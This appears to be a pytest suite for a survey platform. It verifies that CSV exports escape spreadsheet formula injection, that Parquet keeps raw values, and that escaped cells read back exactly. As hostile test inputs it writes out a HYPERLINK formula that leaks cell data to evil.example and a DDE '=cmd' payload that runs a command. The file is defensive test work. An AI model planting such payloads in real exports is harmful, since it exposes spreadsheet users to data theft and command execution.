"""CSV exports cannot carry spreadsheet formulas (OWASP "CSV Injection"), on every engine.

A text answer, a note, a quote or an item text that starts with `= + - @`, a tab or a
carriage return comes out with one apostrophe in front in every CSV the server and the
command line write; numbers (a negative answer to a number item) stay numbers; Parquet
keeps the raw value; `evaluation.read_notes` gives the note back as written.
"""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import pandas as pd
import pytest

from pilotkit.cli.main import main
from pilotkit.csv_cells import raw_cell, safe_cell
from pilotkit.instruments import load_instrument_file
from survey_server.services.pilots import create_pilot, set_wave_status
from tests.staff.conftest import StaffSite, csrf_of
from tests.staff.test_exports import rebind

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CMD = "=cmd|' /C calc'!A0"
HOSTILE_TEXTS = [HYPERLINK, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]

INSTRUMENT = """\
id: hostile
version: 1
title: {en: "Hostile"}
languages: [en]
dimensions:
  - id: work
    label: {en: Work}
items:
  - id: temperature
    dimension: work
    type: number
    min: -50
    max: 50
    text: {en: "=1+2 degrees"}
  - id: comment
    type: text
    required: false
    text: {en: "Comment"}
"""


def test_cell_rule_is_owasp_and_reversible() -> None:
    for text in HOSTILE_TEXTS:
        assert safe_cell(text) == "'" + text
        assert raw_cell(safe_cell(text)) == text
    for number in ("-3", "+1.5", "-2e3", "-.5", "0"):
        assert safe_cell(number) == number
    for plain in ("fine", "", "'quoted'", "a=b", "'tis"):
        assert safe_cell(plain) == plain
        assert raw_cell(safe_cell(plain)) == plain
    # Already looking neutralised: one more apostrophe, so reading back is exact.
    assert safe_cell("'=x") == "''=x"
    assert raw_cell("''=x") == "'=x"
    assert safe_cell(-3) == -3


@pytest.fixture
def hostile_site(staff_site: StaffSite, tmp_path: Path) -> StaffSite:
    path = tmp_path / "hostile.yaml"
    path.write_text(INSTRUMENT, encoding="utf-8")
    instrument = load_instrument_file(path)
    staff_site.user("ana@example.org", "analyst")
    staff_site.user("fay@example.org", "facilitator")
    staff_site.run(lambda e: create_pilot(e, slug="alpha", instrument=instrument))
    staff_site.run(lambda e: set_wave_status(e, "alpha", "pre", "open"))
    from survey_server.services.accounts import add_member
    from survey_server.services.audit import COMMAND_LINE

    for email in ("ana@example.org", "fay@example.org"):
        staff_site.run(lambda e, email=email: add_member(e, "alpha", email, COMMAND_LINE))
    tokens = staff_site.tokens("alpha", len(HOSTILE_TEXTS))
    for token, text in zip(tokens, HOSTILE_TEXTS, strict=True):
        response = staff_site.client.post(
            f"/api/v1/forms/{token}/submissions",
            json={
                "submission_id": str(uuid.uuid4()),
                "answers": {"temperature": -7, "comment": text},
            },
        )
        assert response.status_code == 201, response.text
    fay = staff_site.browser("fay@example.org")
    csrf = csrf_of(fay.get("/staff/pilots").text)
    page = fay.post(
        "/staff/pilots/alpha/sessions/new",
        data={
            "csrf_token": csrf,
            "held_on": "2026-04-01",
            "kind": "focus_group",
            "attendees": "5",
            "facilitator": "Fay",
        },
    )
    saved = fay.post(
        str(page.url) + "/notes",
        data={
            "csrf_token": csrf,
            "text": CMD,
            "dimension": ["work"],
            "sentiment": "negative",
            "severity": "major",
            "quote": "@SUM(1+1)",
            "follow_up": "-fix it",
        },
    )
    assert saved.status_code == 200, saved.text
    return staff_site


def _read(text: str) -> pd.DataFrame:
    # The csv module, not pandas: pandas splits a quoted field at a lone carriage return.
    return pd.DataFrame(list(csv.DictReader(io.StringIO(text, newline=""))))


def _check_responses(frame: pd.DataFrame) -> None:
    comments = sorted(frame.loc[frame["item_id"] == "comment", "value"])
    assert comments == sorted("'" + text for text in HOSTILE_TEXTS)
    assert set(frame.loc[frame["item_id"] == "temperature", "value"]) == {"-7"}


def _check_notes(frame: pd.DataFrame) -> None:
    assert frame.loc[0, "text"] == "'" + CMD
    assert frame.loc[0, "quote"] == "'@SUM(1+1)"
    assert frame.loc[0, "follow_up"] == "'-fix it"


def test_staff_downloads_neutralise_formulas(hostile_site: StaffSite) -> None:
    analyst = hostile_site.browser("ana@example.org")
    api = analyst.get("/staff/api/v1/pilots/alpha/responses.csv")
    assert api.status_code == 200
    _check_responses(_read(api.text))
    page = analyst.get("/staff/pilots/alpha/results/responses.csv")
    assert page.status_code == 200
    _check_responses(_read(page.text))
    notes = analyst.get("/staff/api/v1/pilots/alpha/notes.csv")
    _check_notes(_read(notes.text))
    for url in (
        "/staff/api/v1/pilots/alpha/codebook.csv",
        "/staff/pilots/alpha/results/codebook.csv",
    ):
        book = _read(analyst.get(url).text)
        assert book.loc[book["item_id"] == "temperature", "text"].tolist() == ["'=1+2 degrees"]
    parquet = analyst.get("/staff/api/v1/pilots/alpha/responses.parquet")
    raw = pd.read_parquet(io.BytesIO(parquet.content))
    assert sorted(raw.loc[raw["item_id"] == "comment", "value"]) == sorted(HOSTILE_TEXTS)


def test_command_line_exports_neutralise_formulas(
    hostile_site: StaffSite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", hostile_site.database_url)
    responses, notes, parquet = tmp_path / "r.csv", tmp_path / "n.csv", tmp_path / "r.parquet"
    for args in (
        ["export", "alpha", "--out", str(responses)],
        ["export", "alpha", "--out", str(parquet)],
        ["export-notes", "alpha", "--out", str(notes)],
    ):
        with pytest.raises(SystemExit) as done:
            main(args)
        assert done.value.code == 0
    rebind(hostile_site)
    _check_responses(_read(responses.open(encoding="utf-8", newline="").read()))
    _check_notes(_read(notes.open(encoding="utf-8", newline="").read()))
    raw = pd.read_parquet(parquet)
    assert sorted(raw.loc[raw["item_id"] == "comment", "value"]) == sorted(HOSTILE_TEXTS)
    # The evaluation kit reads the note back as it was written.
    from evaluation import read_notes

    assert read_notes(notes).loc[0, "text"] == CMD


def test_evaluation_reads_neutralised_cells_back(tmp_path: Path) -> None:
    from evaluation import read_responses
    from pilotkit.csv_cells import SafeCSVWriter

    rows = [
        ("p1", "pre", "codes", "-99 1"),  # a multi answer whose first choice is "-99"
        ("p1", "pre", "comment", HYPERLINK),
        ("p1", "pre", "temperature", "-7"),
        ("p2", "pre", "comment", "'=already quoted"),
    ]
    path = tmp_path / "responses.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = SafeCSVWriter(handle)
        writer.writerow(("participant_id", "wave", "item_id", "value"))
        writer.writerows(rows)
    assert "'-99 1" in path.read_text(encoding="utf-8")
    frame = read_responses(path)
    assert list(frame["value"].astype(str)) == [row[3] for row in rows]
